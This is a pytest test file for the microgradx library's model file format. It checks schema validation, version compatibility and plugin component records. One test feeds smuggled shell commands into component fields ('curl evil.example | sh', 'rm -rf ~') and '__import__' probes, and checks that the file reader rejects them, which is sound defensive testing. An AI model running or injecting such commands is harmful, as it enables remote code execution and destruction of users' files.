"""Model file format 2: the schema (what predict needs), the plugins of non-built-in components,
the version policy, and `Predictor` on raw data."""

from __future__ import annotations

import json

import numpy as np
import pytest
from sklearn.datasets import load_digits

import microgradx
from microgradx import modelfile
from microgradx.datasets import load
from microgradx.modelfile import ModelFileError, Schema
from microgradx.train import Trainer


@pytest.fixture(scope="module")
def digits_run():
    t = Trainer(dataset="digits", epochs=10, seed=0)
    t.fit()
    return t


def test_the_schema_round_trips_and_predicts_from_raw_pixels(tmp_path, digits_run):
    path = modelfile.save(digits_run.model, tmp_path / "digits.json", meta=digits_run.model_meta(),
                          schema=digits_run.model_schema())
    doc = json.loads(path.read_text())
    assert doc["version"] == 2 and doc["schema"]["loss"] == "softmax_ce" and "components" not in doc  # all built in
    mf = modelfile.read(path)
    assert mf.schema == digits_run.model_schema()
    assert mf.schema.classes == tuple(str(i) for i in range(10)) and len(mf.schema.features) == 64
    raw = load_digits()
    predictor = modelfile.load_predictor(path)
    accuracy = np.mean(predictor.predict(raw.data) == raw.target_names.astype(str)[raw.target])
    ds = digits_run.dataset
    test_accuracy = np.mean(digits_run.predict(ds.X_test) == ds.y_test)
    assert accuracy >= test_accuracy - 0.01  # raw pixels in: the stored standardisation is applied
    from microgradx.train import model_outputs  # the network alone on raw pixels: the silent drop
    alone = np.mean(np.argmax(np.column_stack([o.data for o in model_outputs(mf.build(), raw.data)]), 1) == raw.target)
    assert alone < accuracy - 0.05
    proba = predictor.predict_proba(raw.data[:5])
    np.testing.assert_allclose(proba.sum(axis=1), 1.0)
    assert predictor.has_proba and proba.shape == (5, 10)


def test_npz_files_hold_the_schema_too(tmp_path):
    t = Trainer(dataset="diabetes", epochs=3, seed=0)
    t.fit()
    path = modelfile.save(t.model, tmp_path / "d.npz", schema=t.model_schema())
    predictor = modelfile.load_predictor(path)
    ds = load("diabetes", standardize=False)
    np.testing.assert_allclose(predictor.predict(ds.X_test),
                               t.dataset.inverse_target(t.predict(t.dataset.X_test)), rtol=1e-10)
    with pytest.raises(ValueError, match="no class probabilities: it is a regression model"):
        predictor.predict_proba(ds.X_test)
    with pytest.raises(ValueError, match="no class probabilities: it is a regression model"):
        predictor.predict_csv(tmp_path / "not-read.csv", proba=True)  # refused before the file is read


def good(tmp_path, digits_run):
    path = modelfile.save(digits_run.model, tmp_path / "m.json", schema=digits_run.model_schema())
    return json.loads(path.read_text())


BAD_SCHEMA = [
    ({"code": "x"}, r"unexpected key\(s\) 'code' in 'schema'"),
    ({"task": "clustering"}, r"schema\['task'\] must be one of binary, multiclass, regression"),
    ({"features": ["a"] * 64}, r"schema\['features'\] names a feature twice"),
    ({"features": ["a", "b"]}, r"names 2 features but the model takes 64"),
    ({"mean": [0.0] * 3}, r"schema\['mean'\] holds 3 numbers, expected 64"),
    ({"scale": [0.0] * 64}, r"schema\['scale'\]\[0\] = 0.0 must be a finite number > 0"),
    ({"mean": [10**400] * 64}, r"schema\['mean'\]\[0\] = 1000+\.\.\. is too large"),  # no float
    ({"target_scale": [10**400] * 10}, r"schema\['target_scale'\]\[0\] = 1000+\.\.\. is too large"),
    ({"classes": ["a", "a"] + [str(i) for i in range(8)]}, r"schema\['classes'\] must hold distinct"),
    ({"classes": ["a", "b", "c"]}, "holds 3 classes but the model has 10 outputs"),
    ({"classes": [{"__import__": "os"}] * 10}, "distinct strings or numbers"),
    ({"loss": 3}, r"schema\['loss'\] must be a name"),
]


@pytest.mark.parametrize(("change", "message"), BAD_SCHEMA)
def test_a_bad_schema_is_refused_before_any_model_is_built(tmp_path, digits_run, change, message):
    doc = good(tmp_path, digits_run)
    doc["schema"].update(change)
    (tmp_path / "bad.json").write_text(json.dumps(doc))
    with pytest.raises(ModelFileError, match=message):
        modelfile.read(tmp_path / "bad.json")


def test_a_version_1_file_loads_and_a_version_1_file_with_version_2_keys_does_not(tmp_path, digits_run):
    doc = good(tmp_path, digits_run)
    v1 = {k: doc[k] for k in ("format", "spec", "weights")} | {"version": 1}
    (tmp_path / "v1.json").write_text(json.dumps(v1))
    model = modelfile.load(tmp_path / "v1.json")
    assert model.get_weights() == digits_run.model.get_weights()
    assert modelfile.read(tmp_path / "v1.json").schema is None
    with pytest.raises(ModelFileError, match="format version 1 file, saved by an older microgradx"):
        modelfile.load_predictor(tmp_path / "v1.json")
    (tmp_path / "mixed.json").write_text(json.dumps(dict(doc, version=1)))
    with pytest.raises(ModelFileError, match=r"unexpected key\(s\) 'schema'; a version 1 model file has"):
        modelfile.read(tmp_path / "mixed.json")


class Scale:
    """A one-layer third-party model: y_i = w_i * x_i (a layer registered by a plugin)."""

    def __init__(self, n):
        self.n = n
        self.w = [microgradx.Value(1.0) for _ in range(n)]

    def __call__(self, x):
        return [w * xi for w, xi in zip(self.w, x)]

    def parameters(self):
        return list(self.w)

    def get_weights(self):
        return [w.data for w in self.w]

    def set_weights(self, weights):
        for w, v in zip(self.w, weights):
            w.data = float(v)

    def spec(self):
        return {"layer": "Scale", "nin": self.n}

    @classmethod
    def from_spec(cls, spec):
        return cls(spec["nin"])


class ScalePlugin:
    @microgradx.hookimpl
    def microgradx_register_layers(self, register):
        register(Scale, name="Scale")


def test_a_plugin_component_is_recorded_and_a_missing_one_names_its_distribution(tmp_path, fresh_registry):
    with microgradx.plugin_registered(ScalePlugin(), name="scale-plugin"):
        path = modelfile.save(Scale(2), tmp_path / "scale.json", schema=Schema(task="regression", features=["a", "b"]))
        doc = json.loads(path.read_text())
        assert doc["components"] == [{"kind": "layers", "name": "Scale", "plugin": "scale-plugin",
                                      "distribution": None, "version": None}]
        assert modelfile.load(path).get_weights() == [1.0, 1.0]
    with pytest.raises(ModelFileError, match="no layer named 'Scale' is registered; the model was saved with it from "
                                             "plugin 'scale-plugin', registered at run time"):
        modelfile.load(path)
    doc["components"] = [{"kind": "layers", "name": "Scale", "plugin": "scale", "distribution": "microgradx-scale",
                          "version": "1.2.0"}]
    path.write_text(json.dumps(doc))
    with pytest.raises(ModelFileError, match=r"from the distribution microgradx-scale 1\.2\.0 \(plugin 'scale'\), "
                                             r"which is not installed here: pip install microgradx-scale"):
        modelfile.load_predictor(path)
    doc["components"] = [{"kind": "layers", "name": "Scale", "code": "__import__('os')"}]
    path.write_text(json.dumps(doc))
    with pytest.raises(ModelFileError, match=r"components\[0\] must be an object with kind, name"):
        modelfile.read(path)
    # the distribution is quoted in a pip install line: a file cannot put a shell command there
    for key, value in (("distribution", "microgradx-scale; curl evil.example | sh"), ("version", "1.0 && rm -rf ~")):
        doc["components"] = [{"kind": "layers", "name": "Scale", "plugin": "scale", "distribution": "microgradx-scale",
                              "version": "1.2.0", key: value}]
        path.write_text(json.dumps(doc))
        with pytest.raises(ModelFileError, match=rf"components\[0\]\['{key}'\] = .* is not a"):
            modelfile.read(path)
